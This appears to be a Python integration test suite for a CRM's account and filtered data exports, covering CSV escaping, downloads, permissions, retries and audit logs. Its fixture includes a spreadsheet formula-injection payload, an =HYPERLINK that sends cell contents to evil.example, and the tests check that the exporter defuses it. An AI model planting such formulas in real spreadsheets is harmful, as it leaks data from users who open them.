"""Exports: the demo account exported as CSV by an admin, downloaded through the presigned link,
unzipped and every CSV opened with the ``csv`` module (formulas defused); JSON Lines parse; a filtered
export holds only the filtered people; a recruiter may not export the whole account; bad filters are
422 naming the field; a redelivered message builds nothing twice; both steps are audited."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

import boto3
import pytest
import requests
from aws_lambda_powertools.utilities.batch.exceptions import BatchProcessingError
from urllib3 import encode_multipart_formdata

from crm.exports.service import ExportService
from crm.platform import clock
from crm_tools.devstack.moto import install_fast_dynamodb, install_fast_transactions
from crm_tools.devstack.runtime import LambdaContext, sqs_event_record
from crm_tools.seed import demo_data
from tests.integration.conftest import Env, json_post
from tests.integration.test_events_registration import published, register
from tests.integration.test_hiring_feedback import feedback, hired_team_job
from tests.support.documents import pdf_with_text
from tests.support.engagement import worker_module

CONTEXT = LambdaContext(
    function_name="ExportFunction",
    memory_limit_in_mb=1024,
    invoked_function_arn="arn:aws:lambda:us-east-1:123456789012:function:ExportFunction",
    timeout_seconds=900,
)
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def run_exports(env: Env, *, copies: int = 1) -> int:
    """Play the export queue's event source: each message handed to the worker ``copies`` times
    (a redelivery), deleted once it succeeded. How many messages there were."""
    sqs = boto3.client("sqs", region_name="us-east-1")
    url = env.stack.queues["export"]
    handler = worker_module("exports", 0).handler
    handled = 0
    while True:
        messages = sqs.receive_message(
            QueueUrl=url, MaxNumberOfMessages=1, AttributeNames=["All"], MessageAttributeNames=["All"]
        ).get("Messages", [])
        if not messages:
            return handled
        record = sqs_event_record(messages[0], queue_arn=env.stack.queue_arn("export"), region="us-east-1")
        for _ in range(copies):
            answer = handler({"Records": [record]}, CONTEXT)
            assert answer == {"batchItemFailures": []}, answer
        sqs.delete_message(QueueUrl=url, ReceiptHandle=messages[0]["ReceiptHandle"])
        handled += 1


def start(env: Env, body: dict[str, Any], who: str = "admin") -> Any:
    return json_post(env, "/v1/exports", body, env.auth(who))


def download(env: Env, export_id: str, who: str = "admin") -> zipfile.ZipFile:
    link = env.client.http.get(f"/v1/exports/{export_id}/download", headers=env.auth(who))
    assert link.status_code == 200, link.body
    assert link.json_body["expires_in"] == 300 and link.json_body["expires_at"].endswith("Z")
    response = requests.get(link.json_body["url"], timeout=10)
    assert response.status_code == 200
    return zipfile.ZipFile(io.BytesIO(response.content))


def rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    with archive.open(name) as raw:
        return list(csv.DictReader(io.TextIOWrapper(raw, encoding="utf-8", newline="")))


@pytest.fixture
def demo(env: Env) -> dict[str, Any]:
    """The demo candidates (one named like a formula), notes, a resume sent with an application,
    interview feedback, an event registration."""
    assert install_fast_transactions() and install_fast_dynamodb()
    data = demo_data()
    ids = []
    for candidate in data.candidates[:20]:
        response = json_post(env, "/v1/candidates", candidate, env.auth("recruiter"))
        assert response.status_code == 201, response.body
        ids.append(response.json_body["id"])
    evil = {"email": "mallory@example.com", "first_name": EVIL, "last_name": "+SUM(1,2)", "tags": ["evil"]}
    response = json_post(env, "/v1/candidates", evil, env.auth("recruiter"))
    assert response.status_code == 201, response.body
    ids.append(response.json_body["id"])
    for number, body in data.notes[:5]:
        response = json_post(
            env, f"/v1/candidates/{ids[number]}/notes", {"body": body}, env.auth("recruiter")
        )
        assert response.status_code == 201, response.body
    json_post(env, f"/v1/candidates/{ids[-1]}/notes", {"body": "-2+3 looks odd"}, env.auth("recruiter"))
    job, application = hired_team_job(env)
    assert feedback(env, application["id"], "recruiter").status_code == 201
    person = data.candidates[0]
    body, content_type = encode_multipart_formdata(
        {
            "email": person["email"],
            "first_name": person["first_name"],
            "last_name": person["last_name"],
            "resume": ("cv.pdf", pdf_with_text("Senior engineer", "Berlin"), "application/pdf"),
        }
    )
    response = env.client.http.post(
        f"/public/jobs/{job['id']}/applications", body=body, headers={"Content-Type": content_type}
    )
    assert response.status_code == 202, response.body
    event = published(env)
    assert (
        register(
            env, event["id"], {"email": person["email"], "first_name": "X", "last_name": "Y"}
        ).status_code
        == 202
    )
    assert not env.pump.drain()
    return {"ids": ids, "data": data, "job": job, "event": event}


def test_the_demo_account_as_csv_opens_safely_and_holds_everything(env: Env, demo: dict[str, Any]) -> None:
    response = start(env, {"scope": "account", "include_resumes": True})
    assert response.status_code == 202, response.body
    export = response.json_body
    assert export["status"] == "queued" and export["scope"] == "account"
    early = env.client.http.get(f"/v1/exports/{export['id']}/download", headers=env.auth("admin"))
    assert early.status_code == 409 and early.headers["Content-Type"] == "application/problem+json"

    assert run_exports(env, copies=2) == 1  # the redelivered copy builds nothing again
    done = env.client.http.get(f"/v1/exports/{export['id']}", headers=env.auth("admin")).json_body
    assert done["status"] == "done", done
    total = len(demo["ids"]) + 1  # the applicant of the feedback job
    assert done["counts"]["candidates"] == total
    assert done["counts"]["notes"] == 6 and done["counts"]["feedback"] == 1
    assert done["counts"]["applications"] == 2 and done["counts"]["event_registrations"] == 1
    assert done["counts"]["resumes"] == 1 and done["size"] > 0

    hidden = env.client.http.get(f"/v1/exports/{export['id']}/download", headers=env.auth("recruiter"))
    assert hidden.status_code == 404  # the whole account's export is for admins only
    archive = download(env, export["id"])
    names = set(archive.namelist())
    for name in ("candidates", "applications", "notes", "feedback", "consents", "event_registrations"):
        assert f"{name}.csv" in names
        rows(archive, f"{name}.csv")  # every file opens with the csv module
    people = rows(archive, "candidates.csv")
    assert len(people) == total and {p["id"] for p in people} >= set(demo["ids"])
    mallory = next(p for p in people if p["email"] == "mallory@example.com")
    assert mallory["first_name"] == "'" + EVIL and mallory["last_name"] == "'+SUM(1,2)"
    for name in names - {"manifest.json"}:
        if name.endswith(".csv"):
            for row in rows(archive, name):
                assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), (
                    name,
                    row,
                )
    notes = rows(archive, "notes.csv")
    assert "'-2+3 looks odd" in {n["body"] for n in notes}
    first = next(p for p in people if p["email"] == demo["data"].candidates[0]["email"])
    resumes = [n for n in names if n.startswith(f"resumes/{first['id']}/")]
    assert len(resumes) == 1 and archive.read(resumes[0]).startswith(b"%PDF-")
    assert rows(archive, "event_registrations.csv")[0]["candidate_id"] == first["id"]
    assert rows(archive, "feedback.csv")[0]["recommendation"] == "yes"
    assert [j["title"] for j in rows(archive, "jobs.csv")] == [demo["job"]["title"]]
    assert rows(archive, "jobs.csv")[0]["stages"].startswith("applied; screen")
    assert [e["id"] for e in rows(archive, "events.csv")] == [demo["event"]["id"]]
    assert done["counts"]["jobs"] == 1 and done["counts"]["events"] == 1
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["counts"] == done["counts"]

    audit = env.client.http.get("/v1/audit?action=export.created", headers=env.auth("admin")).json_body
    assert audit["items"][0]["subject"] == f"export:{export['id']}"
    assert audit["items"][0]["details"]["scope"] == "account"
    fetched = env.client.http.get("/v1/audit?action=export.downloaded", headers=env.auth("admin")).json_body
    assert fetched["items"][0]["details"]["candidates"] == total


def test_a_filtered_export_as_json_lines_holds_only_the_filtered_people(
    env: Env, demo: dict[str, Any]
) -> None:
    response = start(env, {"filter": {"tag": "evil"}, "format": "jsonl"}, who="recruiter")
    assert response.status_code == 202, response.body
    ticked = start(env, {"candidate_ids": demo["ids"][:2]}, who="recruiter")
    assert ticked.status_code == 202, ticked.body
    assert run_exports(env) == 2
    archive = download(env, response.json_body["id"], who="recruiter")
    with archive.open("candidates.jsonl") as raw:
        people = [json.loads(line) for line in raw]
    assert [p["email"] for p in people] == ["mallory@example.com"]
    assert people[0]["first_name"] == EVIL  # JSON is data, not a spreadsheet: kept as typed
    with archive.open("notes.jsonl") as raw:
        assert [json.loads(line)["body"] for line in raw] == ["-2+3 looks odd"]
    two = rows(download(env, ticked.json_body["id"], who="recruiter"), "candidates.csv")
    assert [p["id"] for p in two] == demo["ids"][:2]
    mine = env.client.http.get("/v1/exports", headers=env.auth("recruiter")).json_body["items"]
    assert {e["id"] for e in mine} == {response.json_body["id"], ticked.json_body["id"]}


def test_who_may_export_what_and_bad_requests_name_the_field(env: Env) -> None:
    denied = start(env, {"scope": "account"}, who="recruiter")
    assert denied.status_code == 403 and denied.headers["Content-Type"] == "application/problem+json"
    for body, field in (
        ({"filter": {"stage": "screen"}}, "stage"),
        ({"filter": {"bogus": "x"}}, "filter.bogus"),
        ({"filter": {"created_from": "yesterday"}}, "filter.created_from"),
        ({"filter": {"tag": "x"}, "format": "xlsx"}, "format"),
        ({"pool_id": "no-such-pool"}, "pool_id"),
        ({"scope": "everything"}, "scope"),
        ({}, ""),
        ({"candidate_ids": []}, "candidate_ids"),
    ):
        response = start(env, body, who="recruiter")
        assert response.status_code == 422, (body, response.body)
        fields = [e["field"] for e in response.json_body["errors"]]
        assert any(f.startswith(field) for f in fields), (body, fields)
    assert env.client.http.get("/v1/exports/nope", headers=env.auth("recruiter")).status_code == 404
    too_long = env.client.http.get(f"/v1/exports/{'x' * 3000}/download", headers=env.auth("recruiter"))
    assert too_long.status_code == 404
    assert env.client.http.get("/v1/exports?cursor=garbage", headers=env.auth("recruiter")).status_code == 400
    assert env.client.http.get("/v1/exports").status_code == 401
    assert run_exports(env) == 0


def test_a_build_that_keeps_failing_is_retried_then_marked_failed(
    env: Env, local_clock: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each failed delivery fails the invocation (SQS delivers it again); a second delivery while the
    first worker's lease holds waits; the last delivery before the DLQ marks the export failed."""

    def broken(*_: Any) -> Any:
        raise OSError("disk full")

    monkeypatch.setattr(ExportService, "_write", broken)
    export_id = start(env, {"filter": {"tag": "x"}}, who="recruiter").json_body["id"]
    sqs = boto3.client("sqs", region_name="us-east-1")
    (message,) = sqs.receive_message(QueueUrl=env.stack.queues["export"], AttributeNames=["All"])["Messages"]
    record = sqs_event_record(message, queue_arn=env.stack.queue_arn("export"), region="us-east-1")
    handler = worker_module("exports", 0).handler

    def status() -> dict[str, Any]:
        return dict(env.client.http.get(f"/v1/exports/{export_id}", headers=env.auth("recruiter")).json_body)

    with pytest.raises(BatchProcessingError, match="All records failed"):
        handler({"Records": [record]}, CONTEXT)
    assert status()["status"] == "running"
    with pytest.raises(BatchProcessingError):  # held by the first worker's lease: comes back later
        handler({"Records": [record]}, CONTEXT)
    clock.advance(3600)  # the lease ran out: shown failed, and a later delivery takes it over
    assert status()["status"] == "failed" and status()["error"].startswith("interrupted")
    record["attributes"]["ApproximateReceiveCount"] = "3"  # the last delivery before the DLQ
    with pytest.raises(BatchProcessingError):
        handler({"Records": [record]}, CONTEXT)
    assert status()["status"] == "failed" and status()["error"] == "OSError"
    again = env.client.http.get(f"/v1/exports/{export_id}/download", headers=env.auth("recruiter"))
    assert again.status_code == 409
    record["attributes"]["ApproximateReceiveCount"] = "1"
    assert handler({"Records": [record]}, CONTEXT) == {"batchItemFailures": []}  # failed: left alone
